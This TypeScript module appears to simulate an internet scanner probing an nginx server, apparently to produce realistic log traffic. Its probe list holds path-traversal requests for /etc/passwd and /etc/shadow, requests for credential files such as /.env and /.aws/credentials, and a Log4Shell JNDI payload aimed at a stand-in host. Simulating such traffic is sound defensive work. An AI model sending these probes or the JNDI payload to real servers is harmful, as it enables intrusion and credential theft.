import { address } from "./address.ts";
import type { Connection } from "./connection.ts";
import type { Asked, Host } from "./host.ts";
import { between, pick, random } from "./random.ts";
import type { Timeline } from "./timeline.ts";

const SCANNER = address("203.0.113.66");
const DISTANCE = 141_000;
const AGENT = "Mozilla/5.0 zgrab/0.x";
/** Connections it holds at once, and how often it gives one up. */
const CONNECTIONS = 4;
const GIVEN_UP = 0.03;

type Probe = Pick<Asked, "method" | "path" | "status" | "bytes" | "userAgent">;

/** nginx's own pages for these are 146 bytes, for 400 and 405 150. */
const missing = (path: string): Probe => ({ method: "GET", path, status: 404, bytes: 146 });
const forbidden = (path: string): Probe => ({ method: "GET", path, status: 403, bytes: 146 });
const refused = (path: string): Probe => ({ method: "GET", path, status: 400, bytes: 150 });

const PROBES: readonly Probe[] = [
  forbidden("/.env"),
  forbidden("/.git/config"),
  missing("/wp-login.php"),
  refused("/%2e%2e/%2e%2e/etc/passwd"),
  missing("/phpMyAdmin/index.php"),
  missing("/actuator/env"),
  ...["/.git/HEAD", "/.env.production", "/.aws/credentials", "/.svn/entries", "/.DS_Store"].map(forbidden),
  ...["/cgi-bin/%2e%2e/%2e%2e/bin/sh", "/static/%2e%2e/%2e%2e/%2e%2e/etc/shadow"].map(refused),
  ...["/xmlrpc.php", "/wp-admin/setup-config.php", "/wp-content/debug.log", "/wordpress/wp-login.php"].map(
    missing,
  ),
  ...["/actuator/health", "/actuator/heapdump", "/server-status", "/console/", "/jenkins/login"].map(missing),
  ...["/phpinfo.php", "/info.php", "/shell.php", "/adminer.php", "/pma/", "/phpmyadmin/", "/mysql/"].map(
    missing,
  ),
  ...["/backup.zip", "/backup.sql", "/dump.sql.gz", "/db.sqlite3", "/www.tar.gz", "/config.json"].map(
    missing,
  ),
  ...["/solr/admin/info/system", "/manager/html", "/api/v1/pods", "/v2/_catalog", "/owa/auth/logon.aspx"].map(
    missing,
  ),
  ...["/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/boaform/admin/formLogin", "/HNAP1/"].map(
    missing,
  ),
  { ...missing("/"), status: 200, bytes: 14_230, userAgent: `\${jndi:ldap://${SCANNER}:1389/a}` },
  { ...missing("/search?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.66%3A1389%2Fa%7D"), bytes: 3_812 },
  { ...missing("/api/login"), method: "POST" },
  { ...missing("/uploads/"), method: "PUT", status: 405, bytes: 150 },
];

/** A TLS hello where plain HTTP is spoken, as far as nginx logs it: 0xfc is no UTF-8. */
const HELLO: Asked = {
  path: "\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001\ufffd\u0003\u0003",
  status: 400,
  bytes: 150,
  malformed: true,
};

/** Looks for anything left open: slowly from `from`, in earnest from `fast`, until `end`. */
export function startScanner(timeline: Timeline, host: Host, from: number, fast: number, end: number): void {
  const next = random(6);
  const connections: Connection[] = [];
  let sent = 0;

  const probe = (): void => {
    if (timeline.now >= end) {
      for (const connection of connections) host.close(connection, "peer");
      return;
    }
    if (connections.length < CONNECTIONS) connections.push(host.accept(SCANNER, 443, DISTANCE));
    const connection = pick(next, connections);
    const wanted = sent < PROBES.length ? (PROBES[sent] as Probe) : pick(next, PROBES);
    sent++;
    host.request(connection, { protocol: "HTTP/1.1", userAgent: AGENT, ...wanted });
    // nginx ends a connection with a request it refused.
    if (wanted.status === 400 || next() < GIVEN_UP) {
      connections.splice(connections.indexOf(connection), 1);
      host.close(connection, "us");
    }
    timeline.after(timeline.now < fast ? between(next, 2_000, 5_000) : between(next, 110, 230), probe);
  };
  const hello = (): void => {
    if (timeline.now >= end) return;
    const connection = host.accept(SCANNER, 80, DISTANCE);
    host.request(connection, HELLO);
    host.close(connection, "us");
    timeline.after(between(next, 9_000, 21_000), hello);
  };
  timeline.at(from, probe);
  timeline.at(from + 16_000, hello);
}
